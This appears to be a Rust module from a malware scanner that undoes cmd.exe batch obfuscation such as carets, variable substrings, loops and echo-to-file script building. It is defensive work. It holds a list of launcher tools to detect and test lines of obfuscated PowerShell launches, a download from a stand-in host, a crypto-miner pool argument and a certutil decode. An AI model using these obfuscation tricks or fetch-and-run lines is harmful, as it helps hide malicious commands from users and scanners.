//! `cmd.exe`: carets, quotes, variables and their pieces, `echo` into programs and files.
//!
//! Follows how `cmd` reads a line (percent signs first, then carets, quotes and separators, then `!`), as far as text
//! alone tells. Variables that every Windows sets are kept as they stand unless their value is the same everywhere.

mod associations;
mod calls;
mod conditions;
mod loops;
mod variables;
mod words;

use std::collections::BTreeMap;
use std::rc::Rc;

pub(crate) use self::words::has_quotes_in_words;

use self::calls::Frame;
use self::variables::{constant, is_environment, is_reference, piece, replaced, sum};
use self::words::{
    echoed, language_of_file, lines, reads_input, split_commands, without_empty_input, without_quotes,
};
use crate::engine::{Child, Opened};
use crate::model::Language;

/// Commands run for one text, loops unrolled.
const MAX_COMMANDS: usize = 20_000;
/// Blocks in blocks that are followed.
const MAX_DEPTH: usize = 16;
/// Longest line after its variables are filled in; `cmd` itself takes 8,191 characters.
const MAX_LINE: usize = 64 << 10;

/// Opens a batch text. Gives the text to look for programs in: without tricks where there were some.
pub(crate) fn open(text: &str, room: usize, opened: &mut Opened) -> Option<String> {
    let (lines, joined) = lines(text);
    let one_line = text.trim().lines().nth(1).is_none() || lines.len() == 1 && joined;
    let decodes = text.to_ascii_lowercase().contains("certutil");
    let mut shell = Shell { room, one_line, decodes, script: lines.into(), ..Shell::default() };
    let lines = Rc::clone(&shell.script);
    // What nothing sets leaves nothing in a file; on a command line it stays, and would part no word.
    if one_line && is_torn(text) {
        shell.one_line = false;
    }
    shell.lines(&lines, opened);
    // What stands behind a label may run after variables that are set further down.
    if shell.missing > 0 && text.to_ascii_lowercase().contains("goto") {
        let vars = std::mem::take(&mut shell.vars);
        let mut again = Shell { vars, room, decodes, script: Rc::clone(&lines), ..Shell::default() };
        again.lines(&lines, &mut Opened::default());
        if again.missing < shell.missing {
            shell = again;
        }
    }
    if shell.carets >= 3 || shell.pieces >= 3 || shell.shreds >= 6 {
        opened.traits.push(("obfuscated", 0));
    }
    for (name, body) in std::mem::take(&mut shell.files) {
        // What is decoded afterwards says by itself what it is.
        opened.children.push(Child { how: "echo", language: language_of_file(&name), text: body });
    }
    opened.children.append(&mut shell.children);
    let tricky = joined || shell.changed || shell.carets + shell.pieces + shell.shreds > 0;
    let out = shell.out.trim_end().to_owned();
    (tricky && out != text.trim_end()).then_some(out)
}

/// Whether a line begins with a command that only a shell has.
pub(crate) fn is_shell(text: &str) -> bool {
    let first = text.trim_start().trim_start_matches(['@', '(', ' ']);
    let word = first.split([' ', '\t']).next().unwrap_or_default();
    ["for", "set", "if", "call"].iter().any(|known| word.eq_ignore_ascii_case(known))
        || word.eq_ignore_ascii_case("echo") && text.contains('>')
}

/// Whether a command sets a variable.
fn is_setting(command: &str) -> bool {
    command.get(..4).is_some_and(|word| word.eq_ignore_ascii_case("set "))
}

/// Whether a line starts something that runs text, or names where something is fetched from or mined for.
fn starts_or_fetches(line: &str) -> bool {
    const WORDS: [&str; 13] = [
        "powershell",
        "pwsh",
        "mshta",
        "wscript",
        "cscript",
        "certutil",
        "bitsadmin",
        "regsvr32",
        "rundll32",
        "wmic",
        "cmd",
        "://",
        " -o ",
    ];
    let line = line.to_ascii_lowercase();
    WORDS.iter().any(|word| line.contains(word))
}

/// Whether variables stand inside the first word: `po%x%wershell`.
pub(crate) fn is_torn(text: &str) -> bool {
    let word = text.split_whitespace().next().unwrap_or_default();
    let parts: Vec<&str> = word.split('%').take(64).collect();
    let letter = |c: char| c.is_ascii_alphabetic();
    parts.windows(3).any(|part| {
        part[0].ends_with(letter)
            && part[1].starts_with(letter)
            && is_reference(part[1])
            && part[2].starts_with(letter)
    })
}

#[derive(Debug, Default)]
struct Shell {
    vars: BTreeMap<String, String>,
    out: String,
    files: BTreeMap<String, String>,
    children: Vec<Child>,
    commands: usize,
    room: usize,
    /// The text is a command line and no file.
    one_line: bool,
    /// Carets between letters.
    carets: usize,
    /// `%name:~n,m%`.
    pieces: usize,
    /// Variables of at most three characters inside a word.
    shreds: usize,
    /// A word reads otherwise than it is written.
    changed: bool,
    /// References to what nothing has set yet.
    missing: usize,
    /// Loops round what runs.
    loops: usize,
    /// The lines of the file, for those that `call :label` runs.
    script: Rc<[String]>,
    /// The label that runs.
    frame: Option<Frame>,
    /// What `setlocal` put aside.
    scopes: Vec<BTreeMap<String, String>>,
    /// Files of any name may hold a program in Base64.
    decodes: bool,
}

impl Shell {
    fn lines(&mut self, lines: &[String], opened: &mut Opened) {
        for line in lines {
            self.line(line, 0);
            if self.commands >= MAX_COMMANDS || self.out.len() > self.room {
                opened
                    .problems
                    .push(("step-limit", "the batch text runs more commands than are followed".to_owned()));
                return;
            }
        }
    }

    fn line(&mut self, line: &str, depth: usize) {
        let text = self.percent(line.trim_start().trim_start_matches('@'));
        self.run(&text, depth);
    }

    /// Runs a line whose percent signs are filled in.
    fn run(&mut self, text: &str, depth: usize) {
        if depth > MAX_DEPTH {
            return;
        }
        let mut before: Option<String> = None;
        for (piece, separator, start) in split_commands(text) {
            // A long command costs as much as many short ones.
            self.commands += 1 + piece.len() / 1024;
            if self.commands >= MAX_COMMANDS || self.out.len() > self.room {
                return;
            }
            let piece = piece.trim_start();
            // A blank at the end is part of the value.
            let piece = if is_setting(piece) { piece } else { piece.trim_end() };
            if loops::is_loop(piece) {
                // All the rest of the line belongs to the loop.
                return self.for_loop(text.get(start..).unwrap_or_default().trim(), depth);
            }
            let plain = self.plain(piece);
            let shown = self.command(&plain, before.as_deref(), depth);
            before = (separator == "|").then(|| plain.clone());
            if !shown {
                self.out.push_str(&plain);
            }
            if !separator.is_empty() {
                self.out.push(' ');
                self.out.push_str(separator);
                self.out.push(' ');
            }
        }
        self.out.push('\n');
    }

    /// Runs one command; says whether its readable form is written already.
    fn command(&mut self, text: &str, piped: Option<&str>, depth: usize) -> bool {
        let trimmed = text.trim_start_matches(['(', '@', ' ']);
        let trimmed = without_empty_input(trimmed);
        let trimmed = if text.starts_with('(') { trimmed.trim_end_matches(')') } else { trimmed };
        let (word, rest) = trimmed.split_once([' ', '\t']).unwrap_or((trimmed, ""));
        let word = word.to_ascii_lowercase();
        if word == "set" {
            self.set(rest.trim_start());
            return self.loops > 0;
        } else if self.control(&word, rest) {
            return false;
        } else if word == "call" && rest.trim_start().starts_with(':') && depth < MAX_DEPTH {
            return self.call_label(rest.trim_start(), depth);
        } else if word == "if" && depth < MAX_DEPTH {
            return self.condition(rest, depth);
        } else if word == "call" && depth < MAX_DEPTH {
            let again = self.percent(rest);
            if again != rest {
                // On a command line, variables set on it are read by a second look only.
                self.pieces += usize::from(self.one_line);
                self.run(&again, depth + 1);
                return true;
            }
            self.command(rest.trim_start(), None, depth + 1);
        } else if word == "echo" || word.starts_with("echo.") || word.starts_with('>') {
            self.echo(if word == "echo" { rest } else { trimmed });
        } else if let Some(left) = piped
            && let Some(body) = echoed(left)
            && reads_input(trimmed)
        {
            self.children.push(Child {
                how: "echo",
                language: Some(Language::PowerShell),
                text: body.to_owned(),
            });
        }
        false
    }

    /// `echo text >> file`: what is written to script files is put together.
    fn echo(&mut self, text: &str) {
        let Some(at) = text.rfind('>') else { return };
        let (left, right) = (text[..at].trim_end_matches('>'), &text[at + 1..]);
        let (body, target) = if left.trim().is_empty() {
            // `>> file echo text`
            let right = right.trim_start();
            let (file, rest) = right.split_once(' ').unwrap_or((right, ""));
            (rest.trim_start().strip_prefix("echo").unwrap_or(rest).trim_start_matches([' ', '.']), file)
        } else {
            (left.strip_suffix(" 1").unwrap_or(left).trim_end(), right.trim())
        };
        let file = target.trim_matches(['"', ')', ' ']).to_ascii_lowercase();
        let body = body.to_owned();
        self.write(&file, &body, "\r\n");
    }

    /// Adds to a file, where it is one whose content is looked at.
    fn write(&mut self, file: &str, body: &str, end: &str) {
        if file.is_empty() || file == "nul" || language_of_file(file).is_none() && !self.decodes {
            return;
        }
        if self.files.len() < 64 || self.files.contains_key(file) {
            let entry = self.files.entry(file.to_owned()).or_default();
            entry.push_str(body);
            entry.push_str(end);
        }
    }

    fn set(&mut self, text: &str) {
        match text.get(..2).map(str::to_ascii_lowercase).as_deref() {
            Some("/a") => return self.set_number(text.get(2..).unwrap_or_default()),
            Some("/p") => return self.prompt(text.get(2..).unwrap_or_default()),
            _ => {}
        }
        let text = match text.strip_prefix('"') {
            Some(inner) => inner.rfind('"').map_or(inner, |end| &inner[..end]),
            None => text,
        };
        if let Some((name, value)) = text.split_once('=')
            && self.vars.len() < 4096
            && value.len() < MAX_LINE
        {
            self.vars.insert(name.trim_start().to_ascii_lowercase(), value.to_owned());
        }
    }

    /// `set /p =text`, which writes a text without a line's end; what is typed then is nothing here.
    fn prompt(&mut self, text: &str) {
        let Some((_, shown)) = text.split_once('=') else { return };
        let Some(at) = shown.rfind('>') else { return };
        let (body, file) = (shown[..at].trim_end_matches('>').trim_end(), shown[at + 1..].trim());
        let body = body.trim_end_matches("<nul").trim_end().trim_matches('"').to_owned();
        let file =
            file.split([' ', '<']).next().unwrap_or(file).trim_matches(['"', ')']).to_ascii_lowercase();
        self.write(&file, &body, "");
    }

    /// `set /a x=1+2, y=x*3`.
    fn set_number(&mut self, text: &str) {
        for part in text.trim().trim_matches('"').split(',').take(64) {
            if let Some((name, value)) = part.split_once('=')
                && let Some(value) = sum(value, &self.vars)
                && self.vars.len() < 4096
            {
                self.vars.insert(name.trim().to_ascii_lowercase(), value.to_string());
            }
        }
    }

    /// Fills in `%name%`, `%name:~n,m%` and `%name:a=b%`.
    fn percent(&mut self, line: &str) -> String {
        self.fill(line, '%')
    }

    fn fill(&mut self, line: &str, mark: char) -> String {
        let mut out = String::with_capacity(line.len());
        let mut rest = line;
        let mut filled = false;
        while let Some(at) = rest.find(mark) {
            out.push_str(&rest[..at]);
            let after = &rest[at + 1..];
            if mark == '%'
                && let Some((value, used)) = self.argument(after)
            {
                let inside = out.ends_with(|c: char| c.is_alphanumeric());
                let command = out.trim_matches(['@', '(', ' ']).is_empty();
                self.changed |= !value.is_empty() && (inside || command);
                out.push_str(&value);
                rest = &after[used..];
                continue;
            }
            let end = after.find(mark);
            let Some(end) = end.filter(|&end| end > 0 && self.refers(&after[..end])) else {
                out.push(mark);
                rest = after;
                continue;
            };
            let value = self.reference(&after[..end]);
            rest = &after[end + 1..];
            if let Some(value) = value {
                filled |= !value.is_empty() && self.sets(&after[..end]);
                let inside = out.ends_with(|c: char| c.is_alphanumeric())
                    || rest.starts_with(|c: char| c.is_alphanumeric() || c == mark);
                self.shreds += usize::from(value.chars().count() <= 3 && inside);
                // Part of a word, or the command itself.
                let joins = |c: char| matches!(c, '/' | ':' | '.' | '@' | '-');
                let command =
                    out.trim_matches(['@', '(', ' ']).is_empty() || out.trim_end().ends_with(['&', '|', '(']);
                self.changed |= value.is_empty() && inside && !self.one_line
                    || !value.is_empty()
                        && (inside || out.ends_with(joins) || command && !rest.starts_with('\\'));
                out.push_str(&value);
            } else {
                out.push(mark);
                out.push_str(&after[..end]);
                out.push(mark);
            }
            if out.len() > MAX_LINE {
                break;
            }
        }
        out.push_str(rest);
        // What the script itself set is read where it says what is started or fetched: nowhere else does it stand whole.
        self.changed |= filled && starts_or_fetches(&out);
        out
    }

    /// Whether the script sets what stands between two marks.
    fn sets(&self, inside: &str) -> bool {
        let name = inside.split(':').next().unwrap_or(inside);
        self.vars.contains_key(&name.to_ascii_lowercase())
    }

    /// Whether what stands between two marks names a variable: by its letters, or because it was set.
    fn refers(&self, inside: &str) -> bool {
        let name = inside.split(':').next().unwrap_or(inside);
        is_reference(inside) || name.len() <= 64 && self.vars.contains_key(&name.to_ascii_lowercase())
    }

    fn reference(&mut self, inside: &str) -> Option<String> {
        let (name, change) =
            inside.split_once(':').map_or((inside, None), |(name, change)| (name, Some(change)));
        let lower = name.to_ascii_lowercase();
        let value = match self.vars.get(&lower) {
            Some(value) => value.clone(),
            None if is_environment(&lower) => constant(&lower)?.to_owned(),
            // Nothing sets it: a batch file puts nothing there, a command line leaves it as it stands.
            None if self.one_line => return None,
            None => {
                self.missing += 1;
                String::new()
            }
        };
        let Some(change) = change else {
            return (self.vars.contains_key(&lower) || !is_environment(&lower)).then_some(value);
        };
        if let Some(range) = change.strip_prefix('~') {
            self.pieces += 1;
            return Some(piece(&value, range));
        }
        let (from, to) = change.split_once('=')?;
        if from.is_empty() {
            return None;
        }
        self.changed = true;
        Some(replaced(&value, from, to))
    }

    /// A command without carets, `!` filled in.
    fn plain(&mut self, text: &str) -> String {
        let mut out = String::with_capacity(text.len());
        let mut quoted = false;
        let mut chars = text.chars().peekable();
        while let Some(c) = chars.next() {
            match c {
                '"' => {
                    quoted = !quoted;
                    out.push(c);
                }
                '^' if !quoted => {
                    let next = chars.next();
                    if let Some(next) = next {
                        let word = |c: char| c.is_alphanumeric() || matches!(c, '.' | '-' | '/' | '^');
                        self.carets += usize::from(out.ends_with(word) && word(next));
                        out.push(next);
                    }
                }
                _ => out.push(c),
            }
        }
        let out = if out.contains('!') { self.fill(&out, '!') } else { out };
        let (out, changed) = without_quotes(&out);
        self.changed |= changed;
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::command_line;

    fn opened(text: &str) -> (Option<String>, Opened) {
        let mut opened = Opened::default();
        let plain = open(text, 1 << 20, &mut opened);
        (plain, opened)
    }

    fn plain(text: &str) -> String {
        opened(text).0.unwrap_or_default()
    }

    #[test]
    fn carets_and_quotes() {
        assert_eq!(plain("p^o^w^e^r^shell -^e QQ"), "powershell -e QQ");
        assert_eq!(plain("po\"\"wer^she\"\"ll -c x^y"), "powershell -c xy");
        assert_eq!(opened("echo a ^& b").0, None);
    }

    #[test]
    fn variables_and_their_pieces() {
        assert_eq!(
            plain("set a=XpowYershellZ\r\n%a:~1,3%%a:~5,-1% -e QQ").lines().last(),
            Some("powershell -e QQ")
        );
        assert_eq!(
            plain("set q=pow&&set w=ershell&&call %q%%w% -e QQ")
                .lines()
                .last()
                .map(|l| l.contains("powershell -e QQ")),
            Some(true)
        );
        assert_eq!(plain("%comspec:~-7,3% /c dir"), "cmd /c dir");
        assert_eq!(plain("set a=pQwQrshell\r\n%a:Q=o% x^y z").lines().last(), Some("poworshell xy z"));
        assert_eq!(piece("abc", "-2"), "bc");
        assert_eq!(piece("abc", "9,1"), "");
        assert_eq!(piece("abc", "1,-5"), "");
    }

    #[test]
    fn loops_over_letters() {
        let text = "cmd /V:ON /C \"set u=wlpoershx&&for %A in (2 3 0 4 5 6 7 4 1 1) do set f=!f!!u:~%A,1!&&if %A==99 call %f%\"";
        let inner = command_line::shell_command(text).unwrap();
        let (_, opened) = opened(inner);
        assert!(opened.problems.is_empty());
        let mut shell = Shell { room: 1 << 20, ..Shell::default() };
        shell.line(inner, 0);
        assert_eq!(shell.vars.get("f").map(String::as_str), Some("powershell"));
    }

    #[test]
    fn echo_into_programs_and_files() {
        let (_, piped) = opened("echo iex 'x' | powershell -nop -");
        assert_eq!(piped.children[0].text, "iex 'x'");
        let (_, written) = opened("echo Set a = 1 > %temp%\\a.vbs\r\necho a.Run ^\"x^\" >> %temp%\\a.vbs");
        assert_eq!(written.children[0].language, Some(Language::VbScript));
        assert_eq!(written.children[0].text, "Set a = 1\r\na.Run \"x\"\r\n");
    }

    #[test]
    fn labels_get_their_arguments() {
        let text = "@echo off\r\ncall :go power shell \"-e QQ\"\r\nexit /b\r\n:go\r\n%1%2 %~3\r\nshift\r\n%1 %*\r\ngoto :eof\r\n";
        let plain = plain(text);
        assert!(plain.contains("powershell -e QQ\n"), "{plain}");
        assert!(plain.contains("shell power shell \"-e QQ\"\n"), "{plain}");
        // A label that calls itself ends.
        opened(":a\r\ncall :a %1x\r\n");
        opened(":a\r\ncall :a\r\ncall :a\r\ncall :a\r\n");
    }

    #[test]
    fn scopes_of_variables() {
        let text = "set a=power\r\nsetlocal\r\nset a=x\r\nendlocal & set b=%a%y\r\n%a%shell %b%\r\n";
        assert!(plain(text).contains("powershell xy"), "{}", plain(text));
        let text = "set a=power\r\nif defined a set b=%a%shell\r\nif not defined a set b=x\r\n%b% -e QQ\r\n";
        assert!(plain(text).contains("powershell -e QQ"), "{}", plain(text));
    }

    #[test]
    fn loops_in_loops_and_over_what_windows_prints() {
        let text = "for %a in (power) do for %b in (shell) do %a%b -e QQ";
        assert!(plain(text).contains("powershell -e QQ"), "{}", plain(text));
        for text in [
            "for /f \"tokens=1 delims=.=\" %a in ('assoc .cmd') do %a /c dir",
            "for /f \"tokens=1 delims=.=\" %a in ('assoc^|findstr /b .cmd') do %a /c dir",
            "for /f \"delims=f\" %a in ('ftype^|find \"cmdf\"') do %a /c dir",
        ] {
            assert!(plain(text).contains("cmd /c dir"), "{text}: {}", plain(text));
        }
    }

    #[test]
    fn blanks_are_letters_too() {
        let text = "set r=ih ohce c- llehsrewop&&for /L %A IN (20,-1,0) DO set f=!f!!r:~%A,1!&&if %A==0 call %f:~-21%";
        assert!(plain(text).contains("powershell -c echo hi"), "{}", plain(text));
    }

    #[test]
    fn files_that_are_written_without_line_ends() {
        let (_, written) = opened(
            "<nul set /p =\"Set a = \" > %temp%\\a.vbs\r\necho|set /p=\"1\">>%temp%\\a.vbs\r\necho :b>>%temp%\\a.vbs",
        );
        assert_eq!(written.children[0].text.trim_end(), "Set a = 1:b", "{:?}", written.children);
        let (_, decoded) = opened("echo QUJDREVGR0g=>x.b64\r\ncertutil -decode x.b64 x.exe");
        assert_eq!(decoded.children[0].text.trim_end(), "QUJDREVGR0g=");
    }

    #[test]
    fn whole_words_are_filled_in_where_a_program_starts() {
        for (text, line) in [
            ("set \"c=QQ\"\r\npowershell -enc %c%", "powershell -enc QQ"),
            ("set a=-w hidden\r\npowershell %a% -enc QQ", "powershell -w hidden -enc QQ"),
            ("set U=http://a.example/x\r\npowershell iwr '%U%'", "powershell iwr 'http://a.example/x'"),
            ("set P=pool.a.example:1\r\nm.exe -o %P% -u x", "m.exe -o pool.a.example:1 -u x"),
        ] {
            assert_eq!(plain(text).lines().last(), Some(line), "{text}");
        }
    }

    #[test]
    fn plain_batch_is_left_alone() {
        let text = "@echo off\r\nset DIR=C:\\Tools\r\nif exist \"%DIR%\\x.exe\" \"%DIR%\\x.exe\" /q\r\nnet stop spooler & net start spooler\r\n";
        let (plain, opened) = opened(text);
        assert_eq!(plain, None);
        assert!(opened.traits.is_empty() && opened.children.is_empty());
    }

    proptest::proptest! {
        #[test]
        fn nothing_breaks_it(text in "[%!^\"&|()a-z:~0-9,= é\r\n-]{0,200}") {
            opened(&text);
        }
    }
}
